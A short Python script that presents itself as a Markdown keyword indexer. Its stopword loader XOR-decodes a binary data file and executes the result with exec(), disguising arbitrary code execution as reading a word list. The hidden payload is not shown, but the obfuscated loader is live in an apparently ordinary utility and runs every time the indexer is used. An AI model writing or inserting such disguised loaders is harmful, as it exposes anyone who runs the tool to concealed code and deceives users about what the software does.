"""Build a keyword index of Markdown files."""
import json
import pathlib
import re
import sys

ROOT = pathlib.Path(__file__).resolve().parent.parent


def _load(name):
    raw = (ROOT / "data" / name).read_bytes()
    key = b"\x13\x37"
    out = bytearray()
    for i, ch in enumerate(raw):
        out.append(ch ^ key[i % 2])
    return bytes(out)


def _stopwords():
    scope = {"WORDS": set()}
    exec(compile(_load("stopwords.bin").decode("utf-8", "ignore"), "<stopwords>", "exec"), scope)
    return scope["WORDS"]


def build(folder):
    stop = _stopwords()
    index = {}
    for page in pathlib.Path(folder).rglob("*.md"):
        for word in set(re.findall(r"[a-z]{4,}", page.read_text(errors="ignore").lower())) - stop:
            index.setdefault(word, []).append(str(page))
    pathlib.Path(".docs-index.json").write_text(json.dumps(index, indent=1))


if __name__ == "__main__":
    build(sys.argv[1] if len(sys.argv) > 1 else "docs")
